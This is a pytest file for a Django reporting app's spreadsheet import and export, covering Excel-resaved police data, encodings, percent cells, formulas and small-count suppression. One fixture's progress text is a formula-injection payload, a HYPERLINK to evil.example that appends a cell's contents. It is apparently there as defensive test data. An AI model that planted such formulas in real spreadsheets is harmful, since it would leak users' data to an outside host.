"""The real files of the 2026-11-30 hunt (tests/data/cases/, copied from the shared cases folder), each
imported through the pages a partner or the Working Group uses, with the value the sheet shows asserted."""

from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from actions.models import ProgressUpdate
from cycles.models import CycleState
from indicators.models import IndicatorReading
from tests.factories import (
    ActionFactory,
    GeographyFactory,
    IndicatorFactory,
    ProgressUpdateFactory,
    ReadingFactory,
    StatusFactory,
)
from tests.paths import DATA
from tests.spreadsheet_files import READING_HEADER, csv_bytes, csv_rows, data_rows, preview, upload, xlsx_rows
from workflow.models import ReviewState

CASES = DATA / "cases"
ASB = "Anti-social behaviour"


def case(name: str) -> bytes:
    return (CASES / name).read_bytes()


def row_errors(page) -> list[tuple[int, str, str]]:
    return [(row.number, column, reason) for row in page.context["preview"].rows for column, reason in row.errors]


@pytest.fixture
def kent(world):
    """Kent, three of its districts, and Medway outside it (a unitary area of Kent and Medway)."""
    kent = world.indicator.geography
    for name in ("Maidstone", "Shepway", "Canterbury"):
        GeographyFactory(name=name, kind="district", parent=kent)
    GeographyFactory(
        name="Medway",
        kind="unitary",
        parent=GeographyFactory(partnership=world.partnership, name="Kent and Medway", kind="force_area"),
    )
    return kent


@pytest.fixture
def case_indicators(world, kent):
    """As 00-setup-indicators.py: two indicators the partner's organisation leads."""
    asb = IndicatorFactory(
        partnership=world.partnership,
        slug="asb-monthly-district",
        name="ASB incidents per district (monthly)",
        unit="count",
        period_type="month",
        geography=kent,
    )
    repeat = IndicatorFactory(
        partnership=world.partnership,
        slug="repeat-victims-pct",
        name="Repeat victims of domestic abuse (%)",
        unit="percentage",
        period_type="financial_year",
        geography=kent,
    )
    for indicator in (asb, repeat):
        indicator.leads.set([world.own_org])
    return asb, repeat


@pytest.fixture
def visitors(world, kent):
    """The demo's "Visitors to One Stop Shops" (July–June), with its published 2016/17 figure of 3,200."""
    indicator = IndicatorFactory(
        partnership=world.partnership, name="Visitors to One Stop Shops", period_type="jul_jun", geography=kent
    )
    indicator.leads.set([world.own_org])
    ReadingFactory(indicator=indicator, period_start=date(2016, 7, 1), period_end=date(2017, 6, 30), value=3200)
    return indicator


def police_preview(client, world, indicator, data: bytes, name: str):
    return preview(client, world.partnership, data, kind="police", crime_type=ASB, indicator=indicator.pk, name=name)


EXPECTED_COUNTS = [
    ("ASB incidents per district (monthly), Canterbury, April 2017", "1"),
    ("ASB incidents per district (monthly), Maidstone, April 2017", "3"),
    ("ASB incidents per district (monthly), Shepway, April 2017", "1"),
    ("ASB incidents per district (monthly), Maidstone, May 2017", "1"),
]
EXPECTED_SKIPPED = [("(no location)", 1), ("Medway", 1), ("Wealden", 1)]


def test_02_police_file_resaved_by_excel_counts_as_the_csv(world, client, case_indicators):
    """Excel turned the Month cells into dates; the counts per district and month are the CSV's."""
    asb, _ = case_indicators
    client.force_login(world.users["partner"])
    from_csv, _ = police_preview(client, world, asb, case("17-small-district-counts-police.csv"), "street.csv")
    page, url = police_preview(client, world, asb, case("02-police-excel-resaved.xlsx"), "street.xlsx")
    rows = page.context["preview"].rows
    assert [(row.label, row.changes[0][2]) for row in rows] == EXPECTED_COUNTS
    assert [(row.label, row.changes) for row in rows] == [
        (row.label, row.changes) for row in from_csv.context["preview"].rows
    ]
    assert page.context["preview"].skipped == EXPECTED_SKIPPED
    client.post(url)
    readings = IndicatorReading.objects.filter(indicator=asb).order_by("period_end", "geography__name")
    assert [(r.geography.name, r.period_end, r.value) for r in readings] == [
        ("Canterbury", date(2017, 4, 30), 1),
        ("Maidstone", date(2017, 4, 30), 3),
        ("Shepway", date(2017, 4, 30), 1),
        ("Maidstone", date(2017, 5, 31), 1),
    ]


def test_02_a_police_month_that_is_not_a_month_names_the_files_own_column(world, client, case_indicators):
    from openpyxl import load_workbook

    from tests.spreadsheet_files import xlsx_bytes

    sheet = load_workbook(CASES / "02-police-excel-resaved.xlsx").active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    rows[3][1] = "sometime"
    client.force_login(world.users["partner"])
    response = upload(
        client, world.partnership, xlsx_bytes(rows), kind="police", crime_type=ASB, indicator=case_indicators[0].pk
    )
    (error,) = response.context["form"].errors["file"]
    assert "Month, row 4: “sometime” is not a month such as 2018-01" in error
    assert "Period end" not in error


def test_03_windows_1252_progress_arrives_as_typed(world, client):
    action = ActionFactory(plan_priority=world.plan_priority, leads=[world.own_org])
    StatusFactory(partnership=world.partnership, name="In progress")
    data = case("03-cp1252-progress.csv")
    assert data.count(b"\r\n3,In progress,") == 1
    data = data.replace(b"\r\n3,", f"\r\n{action.pk},".encode())  # the demo's action 3 is this test's action
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, data, kind="updates")
    typed = (
        "Counselling sessions – 42 clients seen; “waiting list” cut to 3 weeks. £12,500 grant (~€14,000) "
        "confirmed. • Partners’ feedback positive."
    )
    assert page.context["preview"].rows[0].changes[-1] == ("Progress", None, typed)
    client.post(url)
    update = ProgressUpdate.objects.get(action=action, state=ReviewState.SUBMITTED)
    assert update.text == typed
    assert not any("\x80" <= char <= "\x9f" for char in update.text)  # no C1 control characters


def test_04_a_percent_cell_is_the_percentage_the_sheet_shows(world, client, case_indicators):
    _, repeat = case_indicators
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("04-percent-cell.xlsx"), name="percent.xlsx")
    (row,) = page.context["preview"].rows
    assert ("Value", None, "12.5") in row.changes
    client.post(url)
    reading = IndicatorReading.objects.get(indicator=repeat)
    assert (reading.value, reading.period_end, reading.display_value) == (Decimal("12.5"), date(2018, 3, 31), "12.5%")
    client.force_login(world.users["working_group"])
    review = client.get(reverse("review_reading", kwargs={"partnership": world.partnership.slug, "pk": reading.pk}))
    assert "12.5%" in review.content.decode()


def test_05_a_formula_without_a_saved_value_is_a_row_error_naming_the_cell(world, client, visitors):
    client.force_login(world.users["working_group"])
    page, url = preview(client, world.partnership, case("05-formula-no-cached-value.xlsx"), name="formula.xlsx")
    assert row_errors(page) == [
        (
            2,
            "Value",
            "D2: a formula without a saved value: open and save the file in Excel, then upload it again.",
        )
    ]
    text = page.content.decode()
    assert "nothing to import" not in text and "Confirm" not in text
    before = IndicatorReading.objects.count()
    client.post(url)
    assert IndicatorReading.objects.count() == before


def test_06_rows_that_only_carry_formatting_are_ignored(world, client, visitors):
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("06-formatted-empty-rows.xlsx"), name="formatted.xlsx")
    result = page.context["preview"]
    assert result.counts == {"new": 0, "changed": 1, "unchanged": 0, "read_only": 0, "error": 0}
    assert [(row.number, row.changes) for row in result.rows] == [
        (
            2,
            [
                ("Value", "3200.00", "3450"),
                ("Approximate", "No", "Yes"),
                ("Source note", "(blank)", "Kent Community Safety Team"),
            ],
        )
    ]
    client.post(url)
    assert visitors.readings.get(state=ReviewState.SUBMITTED).value == 3450


def test_07_a_no_break_space_separates_thousands_like_a_space(world, client, visitors):
    client.force_login(world.users["partner"])
    page, url = preview(client, world.partnership, case("07-nbsp-thousands.csv"))
    assert page.context["preview"].rows[0].changes[0] == ("Value", None, "1234")
    client.post(url)
    assert visitors.readings.get(period_end=date(2011, 6, 30)).value == 1234


def export_rows(client, world, name: str, fmt: str) -> list[list]:
    url = reverse("export_list", kwargs={"partnership": world.partnership.slug, "name": name, "fmt": fmt})
    response = client.get(url)
    return xlsx_rows(response.content) if fmt == "xlsx" else csv_rows(response.content)


def test_17_small_district_counts_read_fewer_than_5_in_the_readings_export(world, client, case_indicators):
    asb, _ = case_indicators
    client.force_login(world.users["partner"])
    _, url = police_preview(client, world, asb, case("17-small-district-counts-police.csv"), "street.csv")
    client.post(url)
    client.force_login(world.users["working_group"])
    for reading in IndicatorReading.objects.filter(indicator=asb):
        review = reverse("review_reading", kwargs={"partnership": world.partnership.slug, "pk": reading.pk})
        client.post(review, {"decision": "publish", "version": reading.version})
    assert set(IndicatorReading.objects.filter(indicator=asb).values_list("state", flat=True)) == {"published"}
    for role in ("governing", "partner", "working_group", "admin"):
        client.force_login(world.users[role])
        for fmt in ("csv", "xlsx"):
            rows = export_rows(client, world, "readings", fmt)
            values = {(row[1], str(row[2])[:10]): row[3] for row in rows[1:] if row[0] == asb.name}
            assert values == {
                ("Canterbury", "2017-04-30"): "fewer than 5",
                ("Maidstone", "2017-04-30"): "fewer than 5",
                ("Shepway", "2017-04-30"): "fewer than 5",
                ("Maidstone", "2017-05-31"): "fewer than 5",
            }, (role, fmt)
    page = client.get(reverse("indicator_page", kwargs={"partnership": world.partnership.slug, "slug": asb.slug}))
    assert "fewer than 5" in page.content.decode()
    # The partner's export, imported back unchanged: "fewer than 5" keeps the figure recorded.
    client.force_login(world.users["partner"])
    url = reverse("export_list", kwargs={"partnership": world.partnership.slug, "name": "readings", "fmt": "csv"})
    exported = client.get(url).content
    page, _ = preview(client, world.partnership, exported)
    # Every row the partner's to write, but the other council's published figure, theirs to read only.
    rows = data_rows(exported, "csv")
    assert page.context["preview"].counts == {"new": 0, "changed": 0, "unchanged": rows - 1, "read_only": 1, "error": 0}
    # Written over a figure that is not hidden, it is refused: it is not a figure.
    reading = IndicatorReading.objects.get(indicator=asb, geography__name="Maidstone", period_end=date(2017, 4, 30))
    IndicatorReading.objects.filter(pk=reading.pk).update(value=7)
    rows = [["ASB incidents per district (monthly)", "Maidstone", "2017-04-30", "fewer than 5", "No", ""]]
    page, _ = preview(client, world.partnership, csv_bytes([READING_HEADER, *rows]))
    assert [column for _, column, _ in row_errors(page)] == ["Value"]
    assert "is how pages show a small count, not a figure" in row_errors(page)[0][2]


@pytest.fixture
def exported_draft(world):
    """What 19-roundtrip-unchanged-export.csv was exported from: action 20's draft, typed in a browser (CRLF)."""
    action = ActionFactory(
        pk=20,
        plan_priority=world.plan_priority,
        wording="Provide four online safety awareness sessions during 2017/18 to partners from across the County",
        leads=[world.own_org],
        status=StatusFactory(partnership=world.partnership, name="In progress"),
    )
    return ProgressUpdateFactory(
        action=action,
        cycle=world.cycle,  # "Q4 2017/18"
        author=world.users["partner"],
        organisation=world.own_org,
        status=action.status,
        text='=HYPERLINK("http://evil.example/?d="&A1,"Click for details")\r\n\r\n- second line as a bullet',
    )


def test_19_an_unchanged_export_imports_as_nothing_to_import(world, client, exported_draft):
    client.force_login(world.users["partner"])
    page, _ = preview(client, world.partnership, case("19-roundtrip-unchanged-export.csv"), kind="updates")
    assert page.context["preview"].counts == {"new": 0, "changed": 0, "unchanged": 1, "read_only": 0, "error": 0}
    text = page.content.decode()
    assert "there is nothing to import" in text and "Confirm" not in text


def test_19_a_change_in_a_locked_cycle_is_refused_in_the_preview(world, client, exported_draft):
    world.cycle.state = CycleState.LOCKED
    world.cycle.save()
    changed = case("19-roundtrip-unchanged-export.csv").replace(b"second line", b"third line")
    client.force_login(world.users["partner"])
    page, _ = preview(client, world.partnership, changed, kind="updates")
    assert row_errors(page) == [
        (
            2,
            "",
            "The reporting cycle “Q4 2017/18” is locked: the Working Group must reopen it before this progress "
            "update can change.",
        )
    ]
    assert "Confirm" not in page.content.decode()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("role", "name"), [("partner", "updates"), ("partner", "readings"), ("working_group", "actions")]
)
def test_19_every_export_reimported_unchanged_is_nothing_to_import(world, client, exported_draft, role, name, fmt):
    """The partner's exports list other organisations' published work, which they may only read: those
    rows are skipped with a note, never errors."""
    client.force_login(world.users[role])
    url = reverse("export_list", kwargs={"partnership": world.partnership.slug, "name": name, "fmt": fmt})
    exported = client.get(url).content
    page, confirm = preview(client, world.partnership, exported, kind=name, name=f"export.{fmt}")
    # The partner may only read the other council's published update or reading; the rest is theirs.
    read_only = 1 if role == "partner" else 0
    rows = data_rows(exported, fmt)
    assert page.context["preview"].counts == {
        "new": 0,
        "changed": 0,
        "unchanged": rows - read_only,
        "read_only": read_only,
        "error": 0,
    }
    text = page.content.decode()
    assert "there is nothing to import" in text and "Confirm" not in text
    if role == "partner":
        assert "about work you may only read" in text
